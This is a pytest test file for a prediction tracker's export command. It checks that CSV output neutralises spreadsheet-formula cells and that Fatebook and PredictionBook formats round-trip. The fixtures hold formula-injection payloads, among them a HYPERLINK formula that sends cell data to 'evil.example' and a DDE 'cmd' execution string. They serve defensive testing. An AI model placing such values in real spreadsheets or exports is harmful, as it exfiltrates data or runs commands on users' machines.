"""export --csv is safe to open in a spreadsheet and still imports exactly; export --format
writes files Fatebook's spreadsheet import and PredictionBook readers take."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Tracker


@pytest.fixture
def tracker(backend_tracker: Tracker) -> Tracker:
    """These tests run on SQLite and on PostgreSQL with the same expectations."""
    return backend_tracker

FORMATS = Path(__file__).parent / "fixtures" / "formats"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "'=already quoted", "''two"]


@pytest.fixture(autouse=True)
def _pinned_today(_isolated: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TRACKER_TODAY", "2025-09-30")


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def hostile_record(tracker: Tracker) -> None:
    for number, claim in enumerate(HOSTILE):
        tracker("add", "--author", "@attacker" if number == 0 else "Ann", "--date", "2021-01-01", "-p", "0.4",
                "--outlet", "=cmd|' /C calc'!A0", "--tag=-tag", "--quote", "=1+1\nsecond line", "--", claim)


def test_export_csv_neutralises_cells_a_spreadsheet_would_run(tracker: Tracker) -> None:
    hostile_record(tracker)
    rows = rows_of(tracker("export", "--csv").stdout)
    assert [row["claim"] for row in rows] == ["'" + claim for claim in HOSTILE]
    assert rows[0]["author"] == "'@attacker" and rows[1]["author"] == "Ann"
    assert {row["outlet"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert {row["tags"] for row in rows} == {"'-tag"}
    assert {row["quote"] for row in rows} == {"'=1+1\nsecond line"}
    assert {row["date"] for row in rows} == {"2021-01-01"} and {row["probability"] for row in rows} == {"0.4"}
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


def test_json_export_stays_exact_and_the_csv_round_trip_restores_every_cell(tracker: Tracker, tmp_path: Path) -> None:
    hostile_record(tracker)
    lines = [json.loads(line) for line in tracker("export", "--json").stdout.splitlines()]
    assert [line["claim"] for line in lines] == HOSTILE
    path = tmp_path / "sheet.csv"
    path.write_text(tracker("export", "--csv").stdout, encoding="utf-8")
    copy = Tracker(tmp_path / "copy.db")
    summary = copy("import", str(path), "--json").json()
    assert summary["predictions_added"] == len(HOSTILE)  # every hash matched its un-neutralised fields

    def strip(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
        return [{k: v for k, v in row.items() if k not in ("id", "claim_id")} for row in rows]

    assert strip(copy("list", "--json").json()) == strip(tracker("list", "--json").json())


def test_export_format_fatebook_writes_its_spreadsheet_import_columns(tracker: Tracker) -> None:
    tracker("import", str(FORMATS / "fatebook.csv"))
    tracker.add("No probability stated", author="Sam Rivera")
    result = tracker("export", "--format", "fatebook", "--author", "Noor Haddad")
    [row] = rows_of(result.stdout)
    assert row == {
        "questionTitle": "Will the EU AI Act be published in the Official Journal before 1 August 2024?",
        "forecast": "65%", "qCreatedAt": "2024-03-02", "resolution": "YES", "resolvedAt": "2024-07-12",
        "resolveBy": "2024-07-31", "fCreatedAt": "2024-03-02", "tags": "ai, eu policy, fatebook",
        "notes": "By Noor Haddad in Fatebook.",
    }
    everyone = tracker("export", "--format", "fatebook")
    assert len(rows_of(everyone.stdout)) == 10
    assert "left out 1 prediction(s) without a probability" in everyone.stderr


def test_export_format_predictionbook_reads_back_with_its_ids(tracker: Tracker, tmp_path: Path) -> None:
    tracker("import", str(FORMATS / "predictionbook.csv"), "--crowd-as-creator", "--author", "nameless")
    path = tmp_path / "my_predictions.csv"
    path.write_text(tracker("export", "--format", "predictionbook").stdout, encoding="utf-8")
    with path.open(newline="", encoding="utf-8") as handle:
        header = next(csv.reader(handle))
    assert header == ["created_at", "creator_id", "creator_label", "deadline", "description_with_group", "description",
                      "group_id", "id", "mean_confidence", "outcome", "prediction_group_id", "last_judgement_at",
                      "updated_at", "uuid", "version", "visibility", "withdrawn"]
    copy = Tracker(tmp_path / "copy.db")
    assert copy("import", str(path), "--crowd-as-creator", "--json").json()["predictions_added"] == 11

    def essence(t: Tracker) -> list[tuple[Any, ...]]:
        lines = [json.loads(line) for line in t("export", "--json").stdout.splitlines()]
        return sorted((x["claim_ref"], x["claim"], x["author"], x["date"], x["deadline"], x["probability"],
                       [(r["outcome"], r["resolved_on"]) for r in x["resolutions"]]) for x in lines)

    assert essence(copy) == essence(tracker)


@pytest.mark.parametrize(("args", "message"), [
    (("--format", "metaculus"), "--format 'metaculus' is not one of: fatebook, predictionbook"),
    (("--format", "fatebook", "--json"), "choose one output format"),
])
def test_export_format_mistakes_are_refused(tracker: Tracker, args: tuple[str, ...], message: str) -> None:
    tracker.add("Something", "-p", "0.5")
    assert message in tracker.fails("export", *args, code=2).stderr
